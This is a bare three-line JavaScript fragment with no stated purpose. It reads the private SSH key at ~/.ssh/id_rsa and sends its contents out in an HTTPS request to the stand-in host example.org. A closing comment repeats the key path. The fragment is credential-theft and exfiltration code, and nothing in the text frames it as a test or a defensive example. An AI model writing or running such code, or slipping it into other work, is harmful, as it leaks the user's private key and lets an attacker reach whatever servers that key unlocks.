const key = read("~/.ssh/id_rsa");
https.request({host: "example.org"}).end(key);
// $HOME/.ssh/id_rsa
